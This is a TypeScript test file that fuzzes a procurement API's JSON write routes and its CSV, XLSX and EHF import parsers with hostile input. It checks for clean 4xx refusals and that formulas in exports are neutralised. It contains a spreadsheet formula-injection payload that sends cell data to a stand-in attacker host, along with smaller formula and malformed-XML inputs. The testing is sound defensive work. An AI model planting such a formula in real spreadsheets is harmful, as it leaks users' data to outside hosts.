// Hostile input over HTTP: property-based (fast-check) bodies for every JSON write route and every import
// parser (categories, agreements CSV/XLSX, spend CSV, exchange rates, EHF, annual plan CSV/XLSX, an HF's article
// mapping CSV/XLSX; arbitrary bytes and rows under each parser's real header) — always a clear 4xx (problem+json), never a 500, and nothing stored (no audit entry) on a refusal —
// plus the two bugs found by reading: a bad character reference in EHF and formula injection in exports.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { count } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog } from '../../src/db/schema.js';
import * as organisationsRepo from '../../src/features/organisations/organisations.repo.js';
import type { App } from '../../src/shared/http.js';
import { buildTestApp, sessionCookie } from '../support/api.js';
import { createSeededDatabase, databaseKinds, type TestDatabase } from '../support/databases.js';

const fixture = (name: string) =>
  fs.readFileSync(new URL(`../fixtures/ehf/${name}`, import.meta.url), 'utf8');
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const RUNS = 12;

describe.each(databaseKinds)('hostile input on %s', (kind) => {
  let database: TestDatabase;
  let app: App;
  let dataDir: string;
  let cookie: string;
  const ids: Record<string, string> = {};

  const auditCount = async () => (await database.db.select({ n: count() }).from(auditLog))[0]!.n;
  const send = (method: string, url: string, payload: unknown, contentType?: string) =>
    app.inject({
      method: method as 'POST',
      url,
      headers: { cookie, ...(contentType ? { 'content-type': contentType } : {}) },
      payload: payload as string,
    });
  /** A refusal is a 4xx problem and leaves the audit log (so every write) untouched; a 500 is never right. */
  const expectRefusedOrDone = async (
    response: Awaited<ReturnType<typeof send>>,
    before: number,
    what: string,
  ) => {
    expect(response.statusCode, `${what}: ${response.body.slice(0, 300)}`).toBeLessThan(500);
    if (response.statusCode >= 400) {
      expect(response.headers['content-type'], what).toContain('application/problem+json');
      expect(typeof response.json().detail, what).toBe('string');
      expect(await auditCount(), `${what} stored something`).toBe(before);
    }
  };

  beforeAll(async () => {
    database = await createSeededDatabase(kind);
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'styr-hostile-'));
    const organisations = await organisationsRepo.listOrganisations(database.db);
    const stavanger = organisations.find((o) => o.code === 'HELSE-STAVANGER-HF')!;
    expect(stavanger.orgNumber).toBe('983974678');
    app = await buildTestApp(database.db, {
      STYR_DATA_DIR: dataDir,
      STYR_RATE_LIMIT_PER_MINUTE: '100000',
    });
    cookie = await sessionCookie(app, 'sekretariat');
    const first = async (url: string) => {
      const body = (await send('GET', url, undefined)).json();
      return (Array.isArray(body) ? body[0] : (body.items ?? body.entries)[0]) as { id: string };
    };
    ids.procurement = (await first('/api/procurements')).id;
    ids.steeringGroup = (await first('/api/steering-groups')).id;
    ids.organisation = organisations[0]!.id;
  });
  afterAll(async () => {
    await app.close();
    await database.dispose();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });

  it('answers an EHF file with a bad character reference or a foreign namespace with a reason, not a 500', async () => {
    const before = await auditCount();
    for (const [name, xml] of [
      [
        'bad-ref.xml',
        fixture('invoice-001.xml').replace('Hanskeleverandøren AS</cbc:Reg', 'H&#xZZ;</cbc:Reg'),
      ],
      ['evil.xml', fixture('invoice-001.xml').replace('xsd:Invoice-2"', 'xsd:Invoice-2-evil"')],
    ] as const) {
      const response = await send('POST', `/api/spend/import/ehf?fileName=${name}`, xml, 'application/xml');
      expect(response.statusCode).toBe(200);
      expect(response.json()).toMatchObject({ invoices: 0, lines: 0, rejected: [{ file: name }] });
    }
    // Nothing stored; only the import's own audit entries.
    const kpis = (await send('GET', '/api/spend/kpis', undefined)).json();
    expect(kpis.measures?.lines ?? 0).toBe(0);
    expect(await auditCount()).toBe(before + 2);
  });

  it('exports a supplier named like a formula as text in CSV and XLSX', async () => {
    const evil = '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk")';
    const xml = fixture('invoice-001.xml').replaceAll(
      'Hanskeleverandøren AS',
      evil.replaceAll('&', '&amp;').replaceAll('"', '&quot;'),
    );
    const imported = await send(
      'POST',
      '/api/spend/import/ehf?fileName=evil-name.xml',
      xml,
      'application/xml',
    );
    expect(imported.json()).toMatchObject({ invoices: 1 });
    const csv = await send('GET', '/api/spend/export?by=supplier&format=csv', undefined);
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`'=HYPERLINK`);
    expect(csv.body).not.toMatch(/(^|;|")=HYPERLINK/m);
    const xlsx = await send('GET', '/api/spend/export?by=supplier&format=xlsx', undefined);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells = workbook.worksheets[0]!.getSheetValues()
      .flat()
      .filter((value) => typeof value === 'string');
    expect(cells).toContain(`'${evil}`);
    expect(cells.some((value) => value.startsWith('='))).toBe(false);
  });

  it('never answers 500 to arbitrary JSON on any write route, and stores nothing when it refuses', async () => {
    const routes = app.routeTable.filter(
      (route) => ['POST', 'PUT', 'PATCH'].includes(route.method) && !route.url.startsWith('/api/auth/'),
    );
    expect(routes.length).toBeGreaterThan(40);
    const concrete = (url: string) =>
      url
        .replace(/^\/api\/procurements\/:id/, `/api/procurements/${ids.procurement}`)
        .replace(/^\/api\/steering-groups\/:id/, `/api/steering-groups/${ids.steeringGroup}`)
        .replace(/^\/api\/organisations\/:id/, `/api/organisations/${ids.organisation}`)
        .replace(':year', '2026')
        .replace(':gate', 'plan')
        .replace(':key', 'involvementMatrix')
        .replace(/:n\b/, '1')
        .replace(/:[a-zA-Z]+/g, '00000000-0000-4000-8000-000000000000');
    const body = fc.oneof(
      fc.jsonValue(),
      fc.dictionary(
        fc.constantFrom('name', 'code', 'status', 'vote', 'date', 'title', 'year', 'value', 'members', 'id'),
        fc.oneof(
          fc.string(),
          fc.integer(),
          fc.double(),
          fc.boolean(),
          fc.constant(null),
          fc.array(fc.string()),
        ),
      ),
    );
    for (const route of routes) {
      const url = concrete(route.url);
      await fc.assert(
        fc.asyncProperty(body, async (payload) => {
          const before = await auditCount();
          const response = await send(route.method, url, JSON.stringify(payload), 'application/json');
          await expectRefusedOrDone(response, before, `${route.method} ${url} ${JSON.stringify(payload)}`);
        }),
        { numRuns: RUNS },
      );
    }
  });

  it('never answers 500 to arbitrary files on the import routes, and imports nothing it refuses', async () => {
    const text = fc.oneof(
      fc.string({ maxLength: 400 }),
      fc
        .array(fc.array(fc.string({ maxLength: 12 }), { maxLength: 8 }), { maxLength: 6 })
        .map((rows) =>
          rows.map((cells) => cells.join(fc.sample(fc.constantFrom(';', ','), 1)[0])).join('\n'),
        ),
      fc.constant('kode;navn;overordnet;medisinsk;drives_av\n=1+1;"ulukket;;;\n'),
      fc.constant(
        '<?xml version="1.0"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&#xD800;</Invoice>',
      ),
    );
    const bytes = fc.uint8Array({ maxLength: 600 });
    // Past the header: the parser's real columns over rows of near-valid and hostile cells, as CSV and as XLSX,
    // so the row checks (dates, amounts, org numbers, enums, duplicates, formulas) are reached, not only the
    // refusal of an unreadable file.
    const cell = fc.oneof(
      fc.string({ maxLength: 24 }),
      fc.constantFrom(
        '',
        ' ',
        'KIR',
        'LAB',
        'høy',
        'hoy',
        'lav',
        'medium',
        'nasjonal',
        'regional',
        'lokal',
        'HN',
        'HSØ',
        'aktiv',
        'ja',
        'nei',
        '2025-03-05',
        '05.03.2025',
        '31.02.2025',
        '2025-13-01',
        '983974678',
        '911000008',
        '123456789',
        '1 250,50',
        '-100',
        '0',
        'NaN',
        '1e309',
        'EUR',
        'NOK',
        'XXX',
        'HN-2025-010-0001',
        'A-1',
        '=1+1',
        '@SUM(A1)',
        '"',
        ';',
        '\u0000',
        'ø'.repeat(3000),
      ),
      fc.integer().map(String),
      fc.double().map(String),
    );
    const table = (header: string) =>
      fc
        .array(fc.array(cell, { maxLength: header.split(';').length + 1 }), { minLength: 1, maxLength: 5 })
        .map((rows) => [header.split(';'), ...rows]);
    const asCsv = (rows: string[][]) =>
      rows
        .map((cells) => cells.map((c) => (/[;"\r\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(';'))
        .join('\n');
    const asXlsx = async (sheets: Array<[string, string[][]]>) => {
      const workbook = new ExcelJS.Workbook();
      for (const [name, rows] of sheets) workbook.addWorksheet(name).addRows(rows);
      return Buffer.from(await workbook.xlsx.writeBuffer());
    };
    const headers = {
      categories: 'kode;navn;overordnet;medisinsk;drives_av',
      agreements: 'avtalenummer;navn;leverandør;orgnr;omfang;rhf;hf;kategorier;gyldig_fra;gyldig_til;status',
      articles: 'avtalenummer;artikkelnummer;gtin;beskrivelse;enhet;pris;produksjonsland',
      spend:
        'fakturanummer;fakturadato;leverandor_orgnr;leverandor_navn;kjoper_orgnr;belop;valuta;artikkelnummer',
      rates: 'valuta;dato;kurs',
      plan: 'anskaffelse;initial_betydning;gevinstestimat;risiko;merknad',
      mapping: 'lokalt_artikkelnummer;masterartikkelnummer',
    };
    // EHF: a valid invoice with hostile text in one of its elements, or cut short anywhere.
    const invoice = fixture('invoice-001.xml');
    const ehf = fc.oneof(
      fc
        .tuple(fc.constantFrom('Hanskeleverandøren AS', '2025-03-05', 'NOK', '983974678'), cell)
        .map(([from, to]) => invoice.replace(from, to.replaceAll('&', '&amp;').replaceAll('<', '&lt;'))),
      fc
        .tuple(fc.constantFrom('Hanskeleverandøren AS', '2025-03-05', 'NOK', '983974678'), cell)
        .map(([from, to]) => invoice.replace(from, to)),
      fc.nat({ max: invoice.length }).map((cut) => invoice.slice(0, cut)),
    );

    // A master agreement for the HF mapping import (REFIL's harmonisation): an agreement with articles.
    const hn = (await organisationsRepo.listOrganisations(database.db)).find((o) => o.code === 'HN')!;
    const unn = (await organisationsRepo.listOrganisations(database.db)).find(
      (o) => o.code === 'UNIVERSITETSSYKEHUSET-NORD-NORGE-HF',
    )!;
    const agreement = await send(
      'POST',
      '/api/agreements',
      JSON.stringify({
        agreementNumber: 'HN-2025-010',
        name: 'Sårbehandling',
        supplierName: 'Sårleverandøren AS',
        supplierOrgNumber: '911000008',
        scope: 'regional',
        rhfId: hn.id,
        categoryCodes: ['MFV'],
        validFrom: '2025-01-01',
        validTo: '2026-12-31',
        articles: [
          { supplierArticleNumber: 'A-1', description: 'Kompress 10x10' },
          { supplierArticleNumber: 'A-2', description: 'Kompress 5x5' },
        ],
      }),
      'application/json',
    );
    expect(agreement.statusCode, agreement.body).toBe(201);
    const master = await send(
      'POST',
      '/api/master-agreements',
      JSON.stringify({ agreementId: agreement.json().id, regionId: hn.id, decisionReference: null }),
      'application/json',
    );
    expect(master.statusCode, master.body).toBe(201);
    const mappingUrl = `/api/master-agreements/${master.json().id}/mappings/import?hfId=${unn.id}`;

    /** pastHeader: rows under the real header, so some answer must be a success or name a row after it. */
    const targets: Array<{
      url: string;
      contentType: string;
      payload: fc.Arbitrary<string | Buffer | Promise<string | Buffer>>;
      pastHeader?: true;
    }> = [
      { url: '/api/categories/import', contentType: 'text/csv', payload: text },
      {
        url: '/api/categories/import',
        contentType: 'text/csv',
        payload: table(headers.categories).map(asCsv),
        pastHeader: true,
      },
      { url: '/api/agreements/import', contentType: 'text/csv', payload: text },
      {
        url: '/api/agreements/import',
        contentType: 'text/csv',
        payload: table(headers.agreements).map(asCsv),
        pastHeader: true,
      },
      { url: '/api/agreements/import', contentType: XLSX, payload: bytes.map((b) => Buffer.from(b)) },
      {
        url: '/api/agreements/import',
        contentType: XLSX,
        payload: fc.tuple(table(headers.agreements), table(headers.articles)).map(([agreements, articles]) =>
          asXlsx([
            ['Avtaler', agreements],
            ['Artikler', articles],
          ]),
        ),
        pastHeader: true,
      },
      { url: '/api/spend/import/csv', contentType: 'text/csv', payload: text },
      {
        url: '/api/spend/import/csv',
        contentType: 'text/csv',
        payload: table(headers.spend).map(asCsv),
        pastHeader: true,
      },
      { url: '/api/spend/rates', contentType: 'text/csv', payload: text },
      {
        url: '/api/spend/rates',
        contentType: 'text/csv',
        payload: table(headers.rates).map(asCsv),
        pastHeader: true,
      },
      { url: '/api/spend/import/ehf', contentType: 'application/xml', payload: text },
      { url: '/api/spend/import/ehf?fileName=fuzz.xml', contentType: 'application/xml', payload: ehf },
      {
        url: '/api/annual-plans/2026/import',
        contentType: 'application/json',
        payload: fc
          .oneof(
            text.map((content) => ({ format: 'csv', content })),
            table(headers.plan).map((rows) => ({ format: 'csv', content: asCsv(rows) })),
            bytes.map((b) => ({ format: 'xlsx', content: Buffer.from(b).toString('base64') })),
            table(headers.plan).map(async (rows) => ({
              format: 'xlsx',
              content: (await asXlsx([['Plan', rows]])).toString('base64'),
            })),
          )
          .map(async (value) => JSON.stringify(await value)),
      },
      { url: mappingUrl, contentType: 'text/csv', payload: text },
      {
        url: mappingUrl,
        contentType: 'text/csv',
        payload: table(headers.mapping).map(asCsv),
        pastHeader: true,
      },
      { url: mappingUrl, contentType: XLSX, payload: bytes.map((b) => Buffer.from(b)) },
      {
        url: mappingUrl,
        contentType: XLSX,
        payload: table(headers.mapping).map((rows) => asXlsx([['Mapping', rows]])),
        pastHeader: true,
      },
    ];
    for (const target of targets) {
      let pastHeader = 0;
      await fc.assert(
        fc.asyncProperty(target.payload, async (pending) => {
          const payload = await pending;
          const before = await auditCount();
          const response = await send('POST', target.url, payload, target.contentType);
          await expectRefusedOrDone(response, before, `${target.url} (${target.contentType})`);
          const errors = (response.statusCode >= 400 ? response.json().errors : []) as Array<{
            row?: number;
          }>;
          if (response.statusCode < 400 || errors.some((e) => (e.row ?? 0) >= 2)) pastHeader += 1;
        }),
        { numRuns: RUNS * 2 },
      );
      if (target.pastHeader)
        expect(pastHeader, `${target.url}: rows read past the header`).toBeGreaterThan(0);
    }
  });
});
